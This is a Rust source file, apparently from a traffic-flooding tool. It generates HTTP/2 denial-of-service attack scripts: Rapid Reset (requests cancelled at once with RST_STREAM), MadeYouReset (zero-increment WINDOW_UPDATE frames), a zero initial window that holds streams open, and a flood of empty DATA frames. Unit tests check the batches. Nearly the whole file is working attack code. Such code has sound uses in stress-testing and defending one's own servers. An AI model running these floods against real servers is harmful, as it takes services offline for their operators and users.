//! HTTP/2 attacks that open streams and leave the edge with them.

use std::time::Duration;

use crate::floods::attack::script::{Script, stream_id};
use crate::h2::frame;
use crate::h2::hpack::{self, Method};

/// Requests in one write.
const BATCH: u32 = 100;
/// What servers commonly let one client open at a time.
const STREAMS: u32 = 100;

/// Requests whose answers may not be sent.
pub(super) fn zero_window(authority: &str) -> Script {
    let block = hpack::request(Method::Get, authority, "/app.js");
    Script::http2(Duration::ZERO, &[(frame::INITIAL_WINDOW_SIZE, 0)], move |batch| {
        if batch > 0 {
            return None;
        }
        requests(0..STREAMS, &block, |_, _| {})
    })
}

/// Requests, each cancelled at once.
pub(super) fn rapid_reset(authority: &str) -> Script {
    flood(authority, |out, stream| {
        frame::push(out, frame::RST_STREAM, 0, stream, &frame::CANCEL.to_be_bytes())
    })
}

/// Requests, each made faulty at once by a window that grows by nought (RFC 9113, section 6.9).
pub(super) fn made_you_reset(authority: &str) -> Script {
    flood(authority, |out, stream| frame::push(out, frame::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()))
}

/// One request whose body is many frames of nothing.
pub(super) fn empty_data(authority: &str) -> Script {
    let mut block = hpack::request(Method::Post, authority, "/api/auth/refresh");
    hpack::push_literal(&mut block, "content-type", "application/json");
    Script::http2(Duration::ZERO, &[], move |batch| {
        let mut out = Vec::new();
        if batch == 0 {
            frame::push_headers(&mut out, 0, 1, &block);
        }
        for _ in 0..BATCH {
            frame::push(&mut out, frame::DATA, 0, 1, &[]);
        }
        Some(out)
    })
}

fn flood(authority: &str, end: fn(&mut Vec<u8>, u32)) -> Script {
    let block = hpack::request(Method::Get, authority, "/");
    Script::http2(Duration::ZERO, &[], move |batch| {
        let first = batch.checked_mul(BATCH)?;
        requests(first..first.checked_add(BATCH)?, &block, end)
    })
}

fn requests(
    indexes: std::ops::Range<u32>,
    block: &[u8],
    then: impl Fn(&mut Vec<u8>, u32),
) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    for index in indexes {
        let stream = stream_id(index)?;
        frame::push_headers(&mut out, frame::END_STREAM, stream, block);
        then(&mut out, stream);
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::h2::FrameReader;

    fn kinds(bytes: &[u8]) -> Vec<u8> {
        let mut reader = FrameReader::default();
        reader.feed(bytes);
        std::iter::from_fn(|| reader.next()).map(|frame| frame.kind).collect()
    }

    #[test]
    fn a_rapid_reset_is_pairs_of_a_request_and_its_end() {
        let mut script = rapid_reset("localhost:1");
        script.next().expect("the opening");
        let batch = kinds(&script.next().expect("a batch"));
        assert_eq!(batch.len(), 2 * BATCH as usize);
        assert!(batch.chunks(2).all(|pair| pair == [frame::HEADERS, frame::RST_STREAM]));
    }

    #[test]
    fn a_zero_window_is_one_batch() {
        let mut script = zero_window("localhost:1");
        let opening = script.next().expect("the opening");
        assert!(opening.ends_with(&[0, 4, 0, 0, 0, 0]), "the last setting is the window");
        assert_eq!(kinds(&script.next().expect("a batch")).len(), STREAMS as usize);
        assert_eq!(script.next(), None);
    }
}
